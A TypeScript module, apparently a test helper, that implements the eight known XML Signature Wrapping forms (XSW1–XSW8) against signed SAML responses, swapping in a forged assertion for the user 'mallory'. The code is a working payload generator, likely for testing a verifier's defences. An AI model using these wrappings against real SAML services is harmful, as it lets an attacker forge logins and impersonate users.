import { DOMParser, XMLSerializer } from '@xmldom/xmldom'

// The forms of signature wrapping that Somorovsky et al. describe ("On Breaking SAML", 2012), as SAML Raider makes them: the signed
// element is moved to where the verifier of the signature finds it, and an element of the attacker stands where its content is read.

type Nodes = Record<'response' | 'assertion' | 'signature' | 'responseSignature', Element> & { document: Document }
type Wrap = (nodes: Nodes) => void

const child = (parent: Element, name: string): Element => {
  const found = Array.from(parent.childNodes).find((node) => 'localName' in node && node.localName === name)
  // oxlint-disable-next-line typescript/no-unsafe-type-assertion -- nodes with a name are elements
  return found as Element
}
const copyOf = (element: Element, withSignature = false): Element => {
  // oxlint-disable-next-line typescript/no-unsafe-type-assertion -- of an element
  const copy = element.cloneNode(true) as Element
  if (!withSignature) copy.removeChild(child(copy, 'Signature'))
  return copy
}
const evil = (element: Element, id: string | null): Element => {
  if (id !== null) element.setAttribute('ID', id)
  for (const nameId of Array.from(element.getElementsByTagName('saml:NameID'))) nameId.textContent = 'mallory'
  return element
}
const evilId = '_evil'

/** The eight forms by their usual names. The first two need a signed response, which has a signed assertion too. */
export const wrappings: Record<string, Wrap> = {
  XSW1({ response, responseSignature }) {
    const original = copyOf(response)
    evil(response, evilId)
    responseSignature.appendChild(original)
  },
  XSW2({ response, responseSignature }) {
    const original = copyOf(response)
    evil(response, evilId)
    response.insertBefore(original, responseSignature)
  },
  XSW3({ response, assertion }) {
    response.insertBefore(evil(copyOf(assertion), evilId), assertion)
  },
  XSW4({ response, assertion }) {
    const outer = evil(copyOf(assertion), evilId)
    response.replaceChild(outer, assertion)
    outer.appendChild(assertion)
  },
  XSW5({ response, assertion }) {
    const original = copyOf(assertion)
    evil(assertion, evilId)
    response.appendChild(original)
  },
  XSW6({ assertion, signature }) {
    const original = copyOf(assertion)
    evil(assertion, evilId)
    signature.appendChild(original)
  },
  XSW7({ document, response, assertion }) {
    const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions')
    extensions.appendChild(evil(copyOf(assertion), null))
    response.insertBefore(extensions, assertion)
  },
  XSW8({ document, assertion, signature }) {
    const object = document.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'ds:Object')
    object.appendChild(copyOf(assertion))
    evil(assertion, evilId)
    signature.appendChild(object)
  },
}

/** Applies a form of wrapping to a response whose assertion, and for some the response, is signed. */
export function wrapped(xml: string, wrap: Wrap): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml')
  const response = document.documentElement
  const assertion = child(response, 'Assertion')
  const signature = child(assertion, 'Signature')
  wrap({ document, response, assertion, signature, responseSignature: child(response, 'Signature') })
  return new XMLSerializer().serializeToString(document)
}
